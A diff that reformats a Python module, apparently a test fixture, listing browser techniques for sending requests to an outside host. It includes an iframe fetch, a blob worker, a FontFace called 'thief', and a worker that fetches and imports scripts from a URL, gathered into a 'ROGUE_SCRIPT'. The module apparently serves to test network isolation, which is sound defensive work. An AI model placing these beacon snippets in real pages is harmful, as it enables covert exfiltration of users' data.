@@ -8,7 +8,9 @@ def host(way: str) -> str:
 
 
 def _filled(ways: Mapping[str, str]) -> dict[str, str]:
-    return {name: text.replace("TO", f"https://{host(name)}/x").replace("HOST", host(name)) for name, text in ways.items()}
+    return {
+        name: text.replace("TO", f"https://{host(name)}/x").replace("HOST", host(name)) for name, text in ways.items()
+    }
 
 
 HEAD = _filled(
@@ -78,7 +80,8 @@ SCRIPT = _filled(
         "style-property": 'document.documentElement.style.backgroundImage = "url(TO.png)"',
         "font-face": 'new FontFace("thief", "url(TO.woff2)").load()',
         "audio-object": 'new Audio("TO.mp3").load()',
-        "frame-fetch": '{ const f = document.createElement("iframe"); document.body.append(f); f.contentWindow.fetch("TO") }',
+        "frame-fetch": '{ const f = document.createElement("iframe"); document.body.append(f); '
+        'f.contentWindow.fetch("TO") }',
         "blob-worker": 'new Worker(URL.createObjectURL(new Blob([`fetch("https://HOST/x")`])))',
         "own-worker": 'new Worker("/worker.js?https://HOST/x")',
         "form": '{ const f = document.createElement("form"); const g = document.createElement("iframe"); g.name = "g"; '
@@ -89,7 +92,9 @@ SCRIPT = _filled(
     }
 )
 ROGUE_SCRIPT = "\n".join(f"try {{ {text} }} catch {{}}" for text in SCRIPT.values())
-WORKER = 'const target = location.search.slice(1); fetch(target).catch(() => {}); try { importScripts(target) } catch {}'
+WORKER = (
+    "const target = location.search.slice(1); fetch(target).catch(() => {}); try { importScripts(target) } catch {}"
+)
 WAYS = frozenset({*HEAD, *BODY, *SCRIPT})
 
 
